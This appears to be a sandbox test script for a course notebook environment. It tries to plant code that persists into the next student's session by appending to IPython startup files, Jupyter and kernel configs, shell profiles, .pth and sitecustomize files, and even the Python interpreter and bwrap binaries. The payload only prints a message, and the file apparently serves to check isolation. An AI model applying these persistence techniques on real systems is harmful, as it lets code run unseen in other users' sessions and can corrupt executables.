# Leaves code for the kernel of the next student: in IPython's start-up folder, in site-packages, in .pth files, .bashrc.
# base: right
# needs: sandbox
# says: tried
# %% square-write
import os
import site
import sys

CODE = "import builtins; print('hostile was here')\n"
homes = [os.path.expanduser("~"), "@course@/home", "/root", "/home/student"]
places = [f"{home}/.ipython/profile_default/startup/00-hostile.py" for home in homes]
places += [f"{home}/.ipython/profile_default/ipython_config.py" for home in homes]
places += [f"{home}/.jupyter/jupyter_config.py" for home in homes]
places += [f"{home}/{name}" for home in homes for name in (".bashrc", ".profile", ".pythonstartup.py")]
for folder in [*site.getsitepackages(), site.getusersitepackages(), *sys.path, os.path.dirname(os.__file__)]:
    places += [f"{folder}/{name}" for name in ("hostile.pth", "sitecustomize.py", "usercustomize.py", "torch.py")]
places += [sys.prefix + "/share/jupyter/kernels/python3/kernel.json", "/etc/ipython/ipython_config.py"]
places += [sys.executable, sys.prefix + "/bin/chainrule", sys.prefix + "/bin/alembic", "/usr/local/bin/bwrap", "/usr/bin/bwrap"]
for place in places:
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        open(place, "a").write(CODE)
        print("written", place)
    except OSError as error:
        pass
print("tried", len(places))
